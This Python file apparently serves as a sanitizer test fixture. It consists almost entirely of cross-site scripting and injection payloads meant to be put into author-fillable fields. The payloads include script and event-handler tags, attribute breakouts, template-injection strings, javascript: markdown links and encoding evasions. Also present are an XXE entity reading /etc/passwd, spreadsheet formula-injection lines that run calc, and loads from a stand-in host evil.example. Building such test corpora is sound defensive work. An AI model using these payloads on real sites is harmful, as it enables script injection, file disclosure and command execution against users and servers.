"""Texts that run a script where a site lets them: put into every field that an author can fill.

RUN is what they would run; it leaves a mark on the page and opens a dialog.
"""
RUN = "window.ran=1,alert(1)"
ENTITIES = "".join(f"&#{ord(c)};" for c in "javascript:" + RUN)
HEXES = "".join(f"&#x{ord(c):x}" for c in "javascript:" + RUN)
ESCAPED = "".join(f"\\u{ord(c):04x}" for c in "alert(1)")

TAGS = [
    f"<script>{RUN}</script>", f"<SCRIPT>{RUN}</SCRIPT>", f"<ScRiPt >{RUN}</sCrIpT >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<script/x>{RUN}</script/x>",
    f"<script\t>{RUN}</script\t>", f"<<script>{RUN}//<</script>", f"<script>{RUN}",
    "<script src=//evil.example/x.js></script>", "<script src=data:,window.ran=1></script>",
    f"<script type=module>{RUN}</script>", f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>", f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>", f"</noscript><script>{RUN}</script>",
    f"--><script>{RUN}</script>", f"<!--><script>{RUN}</script>-->", f"]]><script>{RUN}</script>",
    f"<![CDATA[<script>{RUN}</script>]]>", f"<?xml version='1.0'?><script>{RUN}</script>",
    f"<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    f"<img src=x onerror={RUN}>", f"<img src=x onerror='{RUN}'", f"<img/src=x/onerror={RUN}>",
    f"<IMG SRC=x ONERROR=\"{RUN}\">", f"<img src=`x` onerror={RUN}>", f"<img onerror={RUN} src>",
    f"<svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=\"javascript:{RUN}\"><text y=20>甲</text></a></svg>",
    f"<svg><foreignObject><iframe onload={RUN}></iframe></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table>",
    f"<body onload={RUN}>", f"<iframe src=\"javascript:{RUN}\">", f"<iframe srcdoc=\"<script>{RUN}</script>\">",
    "<object data=\"data:text/html,<script>parent.ran=1</script>\">", "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
    f"<meta http-equiv=refresh content=\"0;url=javascript:{RUN}\">",
    "<style>@import '//evil.example/x.css';</style>", "<style>*{background:url(//evil.example/x)}</style>",
    f"<details open ontoggle={RUN}>", f"<video><source onerror={RUN}></video>", f"<audio src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>", f"<select autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>", f"<form action=\"javascript:{RUN}\"><button>甲</button></form>",
    f"<button formaction=\"javascript:{RUN}\" form=f>甲</button>", f"<isindex action=javascript:{RUN}>",
    "<template shadowrootmode=open><script>window.ran=1</script></template>",
    "<div style=\"background:url(//evil.example/x)\">", "<table background=//evil.example/x>",
]
BREAKOUTS = [
    f"\"><script>{RUN}</script>", f"'><script>{RUN}</script>", f"\" onmouseover=\"{RUN}", f"' onfocus='{RUN}' autofocus='",
    f"\" autofocus onfocus={RUN} x=\"", f"`onload={RUN}`", f"\"/><svg/onload={RUN}>", f"x\" style=\"animation:x\" onanimationstart=\"{RUN}",
    f"\\\"><script>{RUN}</script>", f"&quot;><script>{RUN}</script>", f"%22%3E%3Cscript%3E{RUN}%3C/script%3E",
    f"';{RUN};//", f"\";{RUN};//", f"\\';{RUN};//", f"</script><script>{RUN}//", f"*/{RUN}/*", f"${{{RUN}}}", f"`+{RUN}+`",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e", f"\\x3cscript\\x3e{ESCAPED}", f"\u2028{RUN}\u2029", f"甲\u2028\";{RUN}//",
    "=HYPERLINK(\"http://evil.example/\",\"甲\")", "+cmd|'/c calc'!A1", "-2+3+cmd|'/c calc'!A1", "@SUM(1+1)", "＝1+1", "\t=1+1",
]
TEMPLATES = [
    "{{title}}", "{{{body}}}", "{{{toc}}}", "{{&title}}", "{{#units}}{{label}}{{/units}}", "{{^units}}<script>{{/units}}", "{{/main}}",
    "{{>footer}}", "{{<layout}}{{$main}}x{{/main}}{{/layout}}", "{{=<% %>=}}<%& body %>", "{{! }}", "{{$head}}<script>{{/head}}",
    "{{#lambda}}x{{/lambda}}", "{{constructor.constructor('alert(1)')()}}", "{{{", "}}}", "#{7*7}", "<%= 7*7 %>", "{% x %}",
]
LINKS = [
    f"[甲](javascript:{RUN})", f"[甲](JaVaScRiPt:{RUN})", f"[甲](java&#x73;cript:{RUN})", f"[甲](java&Tab;script:{RUN})",
    f"[甲](&#1;javascript:{RUN})", f"[甲](<java\tscript:{RUN}>)", f"[甲]({ENTITIES})", f"[甲]({HEXES})", f"[甲](javascript&colon;{RUN})",
    "[甲](vbscript:msgbox)", "[甲](data:text/html,<script>alert(1)</script>)", "[甲](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"[甲](blob:{RUN})", "[甲](file:///etc/passwd)", f"[甲](a.png \"\" onmouseover={RUN} \")", f"[甲](a.png '\"><script>{RUN}</script>')",
    f"![甲](x\"onerror={RUN})", f"![\"onerror={RUN}](a.png)", f"![甲](a.png \"\" onerror={RUN} \")", f"![甲](javascript:{RUN})",
    "![甲](data:image/svg+xml,<svg onload=alert(1)>)", "![甲](//evil.example/x.png)", f"<javascript:{RUN}>", f"<data:text/html,{RUN}>",
    f"[甲][js]\n\n[js]: javascript:{RUN} \"甲\"", f"[甲]\n\n[甲]: <javascript:{RUN}>", f"[甲](a.png)[^n]\n\n[^n]: <script>{RUN}</script>",
    f"[^\"><script>{RUN}</script>]", f"`<script>{RUN}</script>`", f"```\"><script>{RUN}</script>\n</code></pre><script>{RUN}</script>\n```",
    f"    <script>{RUN}</script>", f"<https://a.example/\"onclick={RUN}>", f"https://a.example/\"><script>{RUN}</script>",
    f"[甲](https://a.example/\"onclick=\"{RUN})", f"[<img src=x onerror={RUN}>](a.png)", f"**<script>{RUN}</script>**", f"~~<svg onload={RUN}>~~",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-", f"\\<script\\>{RUN}\\</script\\>", f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;",
]
# What the guard refuses where it stands plainly, and YAML's escapes would bring in.
CONTROLS = [f"<scr\u0000ipt>{RUN}</script>", f"\u0001<img src=x onerror={RUN}>", f"甲\u202e<script>{RUN}</script>", f"\u0008\"><svg onload={RUN}>", "甲\ufffe乙"]

TEXTS = TAGS + BREAKOUTS + TEMPLATES
ALL = TEXTS + LINKS
